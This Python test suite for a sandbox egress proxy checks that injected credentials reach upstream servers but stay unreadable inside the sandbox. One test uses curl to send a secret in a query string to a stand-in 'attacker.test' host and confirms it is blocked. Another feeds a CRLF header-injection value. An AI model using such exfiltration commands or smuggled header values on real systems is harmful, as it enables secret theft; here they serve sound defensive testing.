"""The egress proxy (DESIGN §5.1 rule 7, §5.2) as a sandbox sees it: header
injection over TLS with the session CA (curl, python3 urllib, git), a secret
nothing inside can read, one decision per connection (CONNECT, SNI and Host
must agree), legible 403s that reach nobody, normalised hosts, forwardURL,
unmatched requests left alone, policy validation and live updates.

The upstreams are the world's HTTPS servers (world.py: api.public.test,
forward.public.test, git.public.test, attacker.test), whose CA sandboxd
trusts as its extra upstream CA; their logs show what really arrived."""
import base64
import json
import os
import secrets
import tempfile
import time

import world as W
from common import expect, expect_eq, get, sandbox, sh

# Raw proxy client run inside the sandbox (python3 -c RAW CONNECT_HOST SNI HOST PATH):
# CONNECT to the proxy named by HTTPS_PROXY, then TLS with the given SNI
# (verified against the system bundle) and one GET with the given Host.
# Prints JSON {connect: status line, status, headers, body} or {stage, error}.
RAW = r'''
import json, os, socket, ssl, sys, time
target, sni, host, path = sys.argv[1:5]
p = os.environ["HTTPS_PROXY"].split("//")[1].rstrip("/")
ph, pp = p.rsplit(":", 1)
t0 = time.monotonic()
out = {}
try:
    s = socket.create_connection((ph, int(pp)), timeout=5)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        if not c: break
        head += c
    out["connect"] = head.split(b"\r\n")[0].decode()
    if b" 200" not in head.split(b"\r\n")[0]:
        raise SystemExit(print(json.dumps(out)))
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
    except (ssl.SSLError, OSError) as e:
        out.update(stage="tls", error="%s: %s" % (type(e).__name__, e))
        raise SystemExit(print(json.dumps(out)))
    t.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
    data = b""
    while True:
        try:
            c = t.recv(65536)
        except (ssl.SSLError, OSError):
            break
        if not c: break
        data += c
    h, _, body = data.partition(b"\r\n\r\n")
    lines = h.decode(errors="replace").split("\r\n")
    out["status"] = int(lines[0].split()[1]) if lines[0] else 0
    out["headers"] = {l.split(":", 1)[0].lower(): l.split(":", 1)[1].strip() for l in lines[1:] if ":" in l}
    out["body"] = body.decode(errors="replace")
except OSError as e:
    out.update(stage="io", error="%s: %s" % (type(e).__name__, e))
out["ms"] = (time.monotonic() - t0) * 1000
print(json.dumps(out))
'''

URLLIB = r'''
import json, sys, urllib.request
print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())
'''


def _policy_file(world, doc):
    fd, path = tempfile.mkstemp(prefix="policy-", suffix=".json", dir=world.tmp)
    with os.fdopen(fd, "w") as f:
        json.dump(doc, f)
    return path


def _inject(value, **extra):
    return [dict(extra, transform=[{"headers": {"Authorization": value}}])]


def _secret():
    return "sk-test-" + secrets.token_hex(16)


def _run(world, name, script, *flags):
    code, out, err = sh(world, name, script, *flags)
    return code, out, err


def _json_out(world, name, script):
    code, out, err = _run(world, name, script)
    expect(code == 0 and out.strip(), "exec %r: exit %d:" % (script[:80], code), out.strip()[:300], err.strip()[:300])
    return json.loads(out.strip().splitlines()[-1])


def _raw(world, name, target, sni, host, path="/"):
    code, out, err = world.ctl("exec", name, "--", "python3", "-c", RAW, target, sni, host, path)
    expect(code == 0 and out.strip(), "raw proxy client: exit %d:" % code, out[:300], err[:300])
    return json.loads(out.strip().splitlines()[-1])


def _auth_values(entries):
    return [v for e in entries for k, v in e["headers"] if k.lower() == "authorization"]


def _log_since(world, which, n):
    return world.web_log(which)[n:]


def _world_ca_inside(world, name):
    """The world CA as a file inside the sandbox, for clients that talk TLS
    end to end with an upstream (spliced, never terminated)."""
    with open(world.ca_cert, "rb") as f:
        pem = f.read()
    world.rpc_result("fs.write", {"sandbox": name, "files": [
        {"path": "/tmp/world-ca.crt", "content": base64.b64encode(pem).decode()}]})
    return "/tmp/world-ca.crt"


def test_curl_urllib_and_git_get_the_injected_secret_that_nothing_inside_can_read(world):
    secret = _secret()
    pol = _policy_file(world, {"allow": {"api.public.test": _inject("Bearer " + secret),
                                         "git.public.test": _inject("Bearer " + secret)}})
    with sandbox(world, "inject", "--policy", pol) as name:
        n_api, n_git = len(world.web_log("api")), len(world.web_log("git"))
        # curl through HTTPS_PROXY (CONNECT), curl intercepted by nftables
        # (no proxy variables honoured), python3 urllib, git over https: all
        # trust the session CA through the system bundle, none passes -k.
        for script in ("curl -sS -m 10 https://api.public.test/via-proxy",
                       "curl -sS -m 10 --noproxy '*' https://api.public.test/transparent"):
            code, out, err = _run(world, name, script)
            expect_eq(code, 0, "%s (%s)" % (script, err.strip()[:300]))
            expect(secret not in out and secret not in err, "the proxy's answer carries the secret:", out[:300])
            expect('"path": "/' in out, "the echo server answered:", out[:200])
        code, out, err = world.ctl("exec", name, "--", "python3", "-c", URLLIB, "https://api.public.test/urllib")
        expect_eq(code, 0, "python3 urllib (%s)" % err.strip()[-300:])
        expect(secret not in out, "urllib's answer carries the secret:", out[:300])
        code, out, err = _run(world, name, "cd /tmp && git clone -q %s clone && git -C clone rev-parse HEAD"
                              % world.git_https_url)
        expect_eq(code, 0, "git clone over https (%s)" % err.strip()[-400:])
        expect_eq(out.strip().splitlines()[-1], world.git_head, "cloned HEAD")
        # Upstream, every one of them carried it.
        api = _log_since(world, "api", n_api)
        expect_eq(sorted(e["path"] for e in api), ["/transparent", "/urllib", "/via-proxy"], "requests at the API")
        expect_eq(_auth_values(api), ["Bearer " + secret] * 3, "Authorization at the API")
        git = _log_since(world, "git", n_git)
        expect(git and all(v == "Bearer " + secret for v in _auth_values(git)) and len(_auth_values(git)) == len(git),
               "Authorization on every git request:", git[:3])
        # Inside, nowhere: environment of every process, files, /proc, the
        # policy as sandbox.get shows it.
        code, out, err = _run(world, name, "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; "
                                           "grep -rsl %s /etc /tmp /workspace /home /run /var /root 2>/dev/null; "
                                           "echo done" % secret[-12:], "--sudo")
        expect(out.strip().endswith("done"), "the search ran:", out[-200:], err[-200:])
        expect(secret not in out and secret[-12:] not in out.replace("grep -rsl " + secret[-12:], ""),
               "the secret is readable inside:", out[:400])
        sb, _c, _e = get(world, name)
        text = json.dumps(sb)
        expect(secret not in text and "<redacted>" in text, "sandbox.get shows the value:", text[:400])
        # The session CA's key is not inside, and the bundle it trusts is
        # read-only.
        code, out, _e = _run(world, name, "grep -rsl 'PRIVATE KEY' /etc /tmp /workspace /home /run /var /root; "
                                          "grep -c 'sandboxd session CA' /etc/ssl/certs/ca-certificates.crt; "
                                          "echo x >> /etc/ssl/certs/ca-certificates.crt && echo WRITABLE", "--sudo")
        expect("PRIVATE KEY" not in out and "WRITABLE" not in out and out.strip().endswith("1"),
               "key files, trust and write attempt:", out[:300])


def test_proxy_variables_and_ca_bundle_in_the_environment(world):
    pol = _policy_file(world, {"allow": ["api.public.test"]})
    with sandbox(world, "env", "--policy", pol) as name:
        code, out, _e = _run(world, name, "env")
        env = dict(l.split("=", 1) for l in out.splitlines() if "=" in l)
        gw = env.get("HTTPS_PROXY", "")
        expect(gw.startswith("http://10.") and gw.endswith(":3128"), "HTTPS_PROXY:", gw)
        for k in ("HTTP_PROXY", "http_proxy", "https_proxy"):
            expect_eq(env.get(k), gw, k)
        for k in ("NO_PROXY", "no_proxy"):
            expect_eq(env.get(k), "localhost,127.0.0.1,::1", k)
        for k in ("SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO"):
            expect_eq(env.get(k), "/etc/ssl/certs/ca-certificates.crt", k)


def test_connect_then_another_sni_or_another_host_is_refused(world):
    pol = _policy_file(world, {"allow": {"allowed.test": [], "api.public.test": _inject("Bearer x")}})
    with sandbox(world, "sni", "--policy", pol) as name:
        n_api = len(world.web_log("api"))
        # CONNECT an allowed name, then a ClientHello for another: refused
        # (an alert or a closed connection), nothing reaches the server.
        r = _raw(world, name, "allowed.test:443", "blocked.test", "blocked.test")
        expect(r.get("connect", "").endswith("200 Connection established") or " 200" in r.get("connect", ""),
               "CONNECT allowed.test:", r)
        expect("status" not in r or r["status"] in (0, 403), "SNI blocked.test after CONNECT allowed.test:", r)
        # SNI and CONNECT agree on a terminated host, the Host header names
        # another: 403, and the server never sees it.
        r = _raw(world, name, "api.public.test:443", "api.public.test", "blocked.test")
        expect_eq(r.get("status"), 403, "Host: blocked.test inside TLS for api.public.test (%s)" % r)
        expect("x-sandbox-policy" in r.get("headers", {}), "x-sandbox-policy header:", r)
        expect_eq(_log_since(world, "api", n_api), [], "requests at the API")


def test_exfiltration_to_attacker_gets_a_legible_403_and_reaches_nobody(world):
    secret = _secret()
    pol = _policy_file(world, {"allow": ["api.public.test"]})
    with sandbox(world, "exfil", "--policy", pol) as name, world.daemon.connect() as ev:
        ev.result("events.subscribe", {"sandbox": name})
        for how in ("", "--noproxy '*' --resolve attacker.test:80:%s" % W.PUB_ATTACKER_ADDR):
            script = "curl -sS -m 10 -D - %s 'http://attacker.test/?t=%s'; echo curl=$?" % (how, secret)
            t0 = time.monotonic()
            code, out, err = _run(world, name, script)
            ms = (time.monotonic() - t0) * 1000
            expect(out.startswith("HTTP/1.1 403"), "%s: a 403:" % script, out[:300], err[:200])
            low = out.lower()
            expect("x-sandbox-policy:" in low and "attacker.test" in low, "the 403 names the host and policy:", out[:500])
            expect("retry" in low, "the 403 says not to retry:", out[:500])
            expect(ms < 5000, "refused at once:", ms)
        expect_eq(world.web_log("attacker"), [], "connections at the attacker's listener")
        note = ev.wait_note(lambda n: n.get("method") == "event" and n["params"].get("layer") == "proxy", 10)
        expect_eq(note["params"].get("host"), "attacker.test", "host of the proxy denial event")
        expect(secret not in json.dumps(note), "the event carries the query string:", note)
        sb, _c, _e = get(world, name)
        expect(sb.get("denials", 0) >= 2, "the denials counter:", sb.get("denials"))


def test_uppercase_connect_and_trailing_dot_are_judged_normalised(world):
    secret = _secret()
    pol = _policy_file(world, {"allow": {"api.public.test": _inject("Bearer " + secret)}})
    with sandbox(world, "norm", "--policy", pol) as name:
        n_api = len(world.web_log("api"))
        r = _raw(world, name, "API.PUBLIC.TEST:443", "api.public.test", "api.public.test", "/upper")
        expect_eq(r.get("status"), 200, "CONNECT API.PUBLIC.TEST:443 (%s)" % r)
        code, out, err = _run(world, name, "curl -sS -m 10 https://api.public.test./dot")
        expect_eq(code, 0, "curl https://api.public.test./ (%s)" % err.strip()[:300])
        api = _log_since(world, "api", n_api)
        expect_eq(sorted(e["path"] for e in api), ["/dot", "/upper"], "requests at the API")
        expect_eq(_auth_values(api), ["Bearer " + secret] * 2, "injected on both")
        # Refused as attacker.test: its 403 comes inside TLS (a leaf for
        # the name from the session CA, which the sandbox trusts).
        r = _raw(world, name, "ATTACKER.TEST:443", "attacker.test", "attacker.test")
        expect(r.get("status") == 403 and "host: attacker.test" in r.get("body", ""), "CONNECT ATTACKER.TEST:443:", r)


def test_forward_url_reaches_the_forward_server_with_forwarded_headers(world):
    pol = _policy_file(world, {"allow": {"api.public.test": [
        {"match": {"path": {"startsWith": "/fwd"}}, "forwardURL": "https://forward.public.test/base"}]}})
    with sandbox(world, "fwd", "--policy", pol) as name:
        n_api, n_fwd = len(world.web_log("api")), len(world.web_log("forward"))
        code, out, err = _run(world, name, "curl -sS -m 10 -X POST --data-binary hello https://api.public.test/fwd/x")
        expect_eq(code, 0, "curl (%s)" % err.strip()[:300])
        fwd = _log_since(world, "forward", n_fwd)
        expect_eq(len(fwd), 1, "requests at the forward server")
        h = {k.lower(): v for k, v in fwd[0]["headers"]}
        expect_eq(fwd[0]["method"], "POST", "method kept")
        expect_eq(h.get("x-sandbox-forwarded-host"), "api.public.test", "x-sandbox-forwarded-host")
        expect_eq(h.get("x-sandbox-forwarded-scheme"), "https", "x-sandbox-forwarded-scheme")
        expect_eq(h.get("x-sandbox-forwarded-port"), "443", "x-sandbox-forwarded-port")
        expect('"body_len": 5' in out, "body kept:", out[:300])
        expect_eq(_log_since(world, "api", n_api), [], "requests at the original host")


def test_request_matching_no_rule_arrives_unmodified(world):
    pol = _policy_file(world, {"allow": {"api.public.test": [
        {"match": {"path": {"exact": "/only-here"}}, "transform": [{"headers": {"X-Injected": "1"}}]}]}})
    with sandbox(world, "nomatch", "--policy", pol) as name:
        n_api = len(world.web_log("api"))
        code, _o, err = _run(world, name, "curl -sS -m 10 -H 'X-Mine: 1' -A probe/1 https://api.public.test/other")
        expect_eq(code, 0, "curl (%s)" % err.strip()[:300])
        api = _log_since(world, "api", n_api)
        expect_eq(len(api), 1, "requests at the API")
        got = sorted((k.lower(), v) for k, v in api[0]["headers"])
        want = sorted([("host", "api.public.test"), ("user-agent", "probe/1"), ("accept", "*/*"), ("x-mine", "1")])
        expect_eq(got, want, "headers as sent")


def test_crlf_header_value_in_a_policy_is_rejected_naming_the_field(world):
    r = world.rpc("sandbox.create", {"name": world.name("crlf"), "networkPolicy": {
        "allow": {"api.public.test": [{"transform": [{"headers": {"X-A": "v\r\nX-Evil: 1"}}]}]}}})
    err = r.get("error", {})
    expect_eq(err.get("data", {}).get("reason"), "invalid_policy", "reason (%s)" % err)
    field = err.get("data", {}).get("field", "") + " " + err.get("message", "")
    expect('networkPolicy.allow["api.public.test"][0].transform[0].headers' in field, "the field is named:", err)


def test_denied_connect_is_fast_and_legible(world):
    pol = _policy_file(world, {"allow": ["api.public.test"]})
    with sandbox(world, "fast", "--policy", pol) as name:
        t0 = time.monotonic()
        code, out, err = _run(world, name, "curl -sS -m 10 https://blocked.test/ ; echo curl=$?")
        ms = (time.monotonic() - t0) * 1000
        # The 403 page inside TLS (tests/integration/test_https_deny.py).
        expect("curl=0" in out, "curl exit for a refused name:", out[-200:], err[-300:])
        expect("refused by the sandbox's network policy" in out, "curl says why:", out[-300:])
        expect(ms < 3000, "refused fast:", ms)


def test_policy_update_adds_rules_for_new_connections(world):
    secret = _secret()
    with sandbox(world, "upd", "--allow-all") as name:
        ca = _world_ca_inside(world, name)
        code, out, _e = _run(world, name, "env")
        expect("HTTPS_PROXY=" not in out and "SSL_CERT_FILE=" in out, "allow-all environment:", out[:400])
        # allow-all -> custom without rules: spliced, end-to-end TLS with
        # the world's certificate.
        r = world.rpc("sandbox.update", {"name": name, "networkPolicy": {"allow": ["api.public.test"]}})
        expect("result" in r, "update:", r)
        n_api = len(world.web_log("api"))
        code, _o, err = _run(world, name, "curl -sS -m 10 --cacert %s https://api.public.test/spliced" % ca)
        expect_eq(code, 0, "spliced (%s)" % err.strip()[:300])
        # ... -> rules: terminated with the session CA, which the sandbox
        # trusts since its start.
        r = world.rpc("sandbox.update", {"name": name, "networkPolicy": {
            "allow": {"api.public.test": _inject("Bearer " + secret)}}})
        expect("result" in r, "update:", r)
        code, _o, err = _run(world, name, "curl -sS -m 10 https://api.public.test/terminated")
        expect_eq(code, 0, "terminated (%s)" % err.strip()[:300])
        api = _log_since(world, "api", n_api)
        expect_eq([(e["path"], _auth_values([e])) for e in api],
                  [("/spliced", []), ("/terminated", ["Bearer " + secret])], "requests at the API")
        # ... -> allow-all: no proxy for new commands.
        r = world.rpc("sandbox.update", {"name": name, "networkPolicy": "allow-all"})
        expect("result" in r, "update:", r)
        code, out, _e = _run(world, name, "env")
        expect("HTTPS_PROXY=" not in out, "allow-all environment after the update:", out[:400])


def test_secret_echoed_json_escaped_is_masked_to_its_length(world):
    # The echo server answers with json.dumps of the request, so '"' and
    # '\\' in the injected value come back escaped ('/' stays as is).
    secret = 'sk-"q\\u/' + secrets.token_hex(12)
    value = "Bearer " + secret
    pol = _policy_file(world, {"allow": {"api.public.test": _inject(value)}})
    escaped = json.dumps(value)[1:-1]
    expect(escaped != value, "the test value needs escaping:", escaped)
    with sandbox(world, "escaped", "--policy", pol) as name:
        n_api = len(world.web_log("api"))
        code, out, err = _run(world, name, "curl -sS -m 10 https://api.public.test/echo")
        expect_eq(code, 0, "curl (%s)" % err.strip()[:300])
        expect_eq(_auth_values(_log_since(world, "api", n_api)), [value], "Authorization at the API")
        expect(secret[-12:] not in out, "the echoed value reached the sandbox:", out[:400])
        expect('["Authorization", "' + "*" * len(escaped) + '"]' in out, "the escaped form is masked:", out[:400])


def test_snapshot_answers_never_show_an_injected_header_value(world):
    """snapshot.get, snapshot.list and the snapshot of an import show a
    transform's header values as <redacted>, as sandbox.get does (they were
    returned in plain text)."""
    secret = "sk-" + secrets.token_hex(12)
    pol = _policy_file(world, {"allow": {"api.public.test": [
        {"transform": [{"headers": {"authorization": "Bearer " + secret}}]}]}})
    snap = imported = None
    with sandbox(world, "snapred", "--policy", pol) as name:
        try:
            code, out, err = world.ctl("snapshot", name)
            expect_eq(code, 0, "snapshot (%s)" % err.strip())
            snap = out.strip()
            got = world.rpc_result("snapshot.get", {"id": snap})
            listed = world.rpc_result("snapshot.list", {})
            for what, obj in (("snapshot.get", got), ("snapshot.list", listed)):
                text = json.dumps(obj)
                expect(secret not in text, "%s shows the header value:" % what, text[:400])
            expect_eq(got["config"]["networkPolicy"]["allow"]["api.public.test"][0]["transform"][0]["headers"],
                      {"authorization": "<redacted>"}, "the header as snapshot.get shows it")
            path = os.path.join(tempfile.mkdtemp(dir=world.tmp), "s.tar.zst")
            world.ctl("snapshots", "export", snap, path, check=True)
            r = world.rpc_result("snapshot.import", {"path": path, "config": True}, timeout=120)
            imported = r["id"]
            expect(secret not in json.dumps(r), "the import's answer shows the header value:", json.dumps(r)[:400])
        finally:
            for s_ in (snap, imported):
                if s_:
                    world.ctl("snapshots", "rm", s_)


def _host_of(entry):
    return {k.lower(): v for k, v in entry["headers"]}.get("host")


def test_subnet_allow_admits_its_address_whatever_the_sni_host_or_connect_name(world):
    """DESIGN §5.1 rule 4: an address in subnets.allow is reached whatever
    name the connection carries (SNI, Host, CONNECT); a name with rules
    that the request carries still gets its rules."""
    secret = _secret()
    pol = _policy_file(world, {"allow": {"api.public.test": _inject("Bearer " + secret)},
                               "subnets": {"allow": [W.PUB_API_ADDR + "/32"]}})
    with sandbox(world, "subtls", "--policy", pol) as name:
        ca = _world_ca_inside(world, name)
        n_api = len(world.web_log("api"))
        # Transparent HTTPS and HTTP naming a host the policy does not allow.
        code, out, err = _run(world, name, "curl -sS -m 10 --noproxy '*' --cacert %s --resolve blocked.test:443:%s "
                              "https://blocked.test/tls" % (ca, W.PUB_API_ADDR))
        expect_eq(code, 0, "curl --resolve blocked.test:443:%s (%s)" % (W.PUB_API_ADDR, err.strip()[:300]))
        code, out, err = _run(world, name, "curl -sS -m 10 --noproxy '*' --resolve blocked.test:80:%s "
                              "http://blocked.test/plain" % W.PUB_API_ADDR)
        expect_eq(code, 0, "curl --resolve blocked.test:80:%s (%s)" % (W.PUB_API_ADDR, err.strip()[:300]))
        # Through the proxy: CONNECT to the address, then an SNI and Host
        # that name the host the policy does not allow.
        code, out, err = world.ctl("exec", name, "--", "env", "SSL_CERT_FILE=" + ca, "python3", "-c", RAW,
                                   "%s:443" % W.PUB_API_ADDR, "blocked.test", "blocked.test", "/connect")
        r = json.loads(out.strip().splitlines()[-1]) if out.strip() else {}
        expect_eq(r.get("status"), 200, "CONNECT %s:443 then SNI blocked.test (%s %s)" % (W.PUB_API_ADDR, r, err[:200]))
        # The allowed name with rules, carried to the admitted address: terminated, injected.
        code, out, err = _run(world, name, "curl -sS -m 10 --noproxy '*' --resolve api.public.test:443:%s "
                              "https://api.public.test/ruled" % W.PUB_API_ADDR)
        expect_eq(code, 0, "curl --resolve api.public.test:443:%s (%s)" % (W.PUB_API_ADDR, err.strip()[:300]))
        api = _log_since(world, "api", n_api)
        expect_eq(sorted((e["path"], _host_of(e)) for e in api),
                  [("/connect", "blocked.test"), ("/plain", "blocked.test"), ("/ruled", "api.public.test"),
                   ("/tls", "blocked.test")], "requests at the admitted address")
        expect_eq(_auth_values(api), ["Bearer " + secret], "injected only for the name with rules")


def test_subnet_deny_inside_an_allowed_subnet_still_refuses_by_name(world):
    pol = _policy_file(world, {"allow": ["allowed.test"],
                               "subnets": {"allow": [W.PUB_NET], "deny": [W.PUB_API_ADDR + "/32"]}})
    with sandbox(world, "subdeny", "--policy", pol) as name:
        ca = _world_ca_inside(world, name)
        n_api = len(world.web_log("api"))
        code, out, err = _run(world, name, "curl -sS -m 10 --noproxy '*' --cacert %s --resolve blocked.test:443:%s "
                              "https://blocked.test/denied; echo curl=$?" % (ca, W.PUB_API_ADDR))
        expect("curl=0" not in out, "blocked.test at a denied address inside an allowed subnet:", out[-200:], err[-200:])
        expect_eq(_log_since(world, "api", n_api), [], "requests at the denied address")
